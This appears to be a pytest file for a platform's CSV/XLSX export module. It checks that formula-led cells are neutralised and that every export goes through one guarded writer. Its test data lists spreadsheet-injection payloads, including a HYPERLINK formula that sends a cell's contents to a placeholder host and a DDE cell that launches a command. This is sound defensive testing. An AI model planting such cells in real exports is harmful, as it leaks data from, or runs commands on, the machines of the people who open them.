"""The neutralising CSV and XLSX writer, and the guard that every export goes through it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from probation_inspection.tabular import (
    csv_text,
    reader_input_csv,
    record_rows,
    xlsx_bytes,
)

SOURCE = Path(__file__).resolve().parents[1] / "src" / "probation_inspection"

#: The cells of the security review: each would run in Excel or LibreOffice if written as is.
HOSTILE = [
    '=HYPERLINK("http://x/?"&A2,"Open")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_quotes_every_formula_led_cell_and_keeps_numbers_as_numbers() -> None:
    text = csv_text(["value"], [[cell] for cell in HOSTILE] + [[-3], [2.5], [Decimal("-1.5")]])
    read = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert read[:len(HOSTILE)] == ["'" + cell for cell in HOSTILE]
    assert read[len(HOSTILE):] == ["-3", "2.5", "-1.5"]


def test_csv_leaves_ordinary_text_dates_and_blanks_alone() -> None:
    text = csv_text(["a", "b", "c", "d"], [["a=b", dt.date(2026, 1, 2), None, True]])
    assert text == "a,b,c,d\r\na=b,2026-01-02,,True\r\n"


def test_a_formula_led_header_is_neutralised_too() -> None:
    assert csv_text(["=x"], []) == "'=x\r\n"


def test_records_are_written_in_the_header_order_with_missing_keys_blank() -> None:
    rows = list(record_rows(["a", "b"], [{"b": 2, "a": "=1", "extra": "x"}, {"a": "y"}]))
    assert rows == [["=1", 2], ["y", None]]


def _cells(data: bytes) -> list[tuple[object, str, bool]]:
    sheet = load_workbook(io.BytesIO(data))["Sheet"]
    return [(cell.value, cell.data_type, cell.quotePrefix)
            for row in sheet.iter_rows(min_row=2) for cell in row]


def test_xlsx_writes_formula_led_text_as_quoted_text_cells_and_numbers_as_numbers() -> None:
    data = xlsx_bytes([("Sheet", ["value"], [[cell] for cell in HOSTILE] + [[-3], [2.5]])])
    cells = _cells(data)
    # XML reads a carriage return back as a line feed; the cell is text either way.
    assert [value for value, _, _ in cells] == [
        *(cell.replace("\r", "\n") for cell in HOSTILE), -3, 2.5]
    assert all(kind == "s" and quoted for _, kind, quoted in cells[:len(HOSTILE)])
    assert [kind for _, kind, _ in cells[len(HOSTILE):]] == ["n", "n"]
    assert not any(kind == "f" for _, kind, _ in cells)


def test_xlsx_replaces_control_characters_a_workbook_cannot_hold() -> None:
    # openpyxl would raise IllegalCharacterError (a 500 on the download) without this.
    cells = _cells(xlsx_bytes([("Sheet", ["v"], [["a\x00b\x1bc"]])]))
    assert cells == [("a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}c", "s", False)]


def test_xlsx_cuts_text_longer_than_a_cell_holds_and_says_so() -> None:
    cells = _cells(xlsx_bytes([("Sheet", ["v"], [["x" * 40_000], ["y" * 32_767]])]))
    assert len(cells[0][0]) == 32_767 and cells[0][0].endswith(" [cut to fit the cell]")
    assert cells[1][0] == "y" * 32_767


def test_reader_input_is_written_exactly_for_the_reader_that_parses_it_back() -> None:
    assert reader_input_csv(["figure", "unit"], [["-3", None]]) == "figure,unit\n-3,\n"


# The guard: a CSV or XLSX writer outside `tabular` would skip the neutralising rule.
WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter|"
                     r"import Workbook|\.save_workbook|write_only")
#: Modules allowed to write CSV for one of the platform's own readers (never a download).
READER_INPUTS = {"web/demo.py", "web/reports/wales.py", "web/quality/evidence.py"}


def _modules() -> list[tuple[str, str]]:
    return [(path.relative_to(SOURCE).as_posix(), path.read_text(encoding="utf-8"))
            for path in sorted(SOURCE.rglob("*.py"))]


def test_no_module_but_tabular_writes_csv_or_xlsx() -> None:
    bypassing = [name for name, text in _modules()
                 if name != "tabular.py" and WRITERS.search(text)]
    assert bypassing == [], f"write CSV/XLSX through probation_inspection.tabular: {bypassing}"


def test_openpyxl_is_used_only_by_tabular_and_the_case_list_reader() -> None:
    users = {name for name, text in _modules() if "openpyxl" in text}
    # The case-list and framework-workbook readers only load workbooks (framework/xlsx.py
    # writes through tabular; sampling/workbook.py reads through calamine and names openpyxl
    # only in its words); anything else would be a writer to route.
    assert users <= {"tabular.py", "sampling/reading.py", "sampling/workbook.py",
                     "framework/xlsx.py"}


def test_only_reader_inputs_use_the_unneutralised_writer() -> None:
    users = {name for name, text in _modules()
             if name != "tabular.py" and "reader_input_csv" in text}
    assert users <= READER_INPUTS, "exports must use csv_text/write_csv, not reader_input_csv"
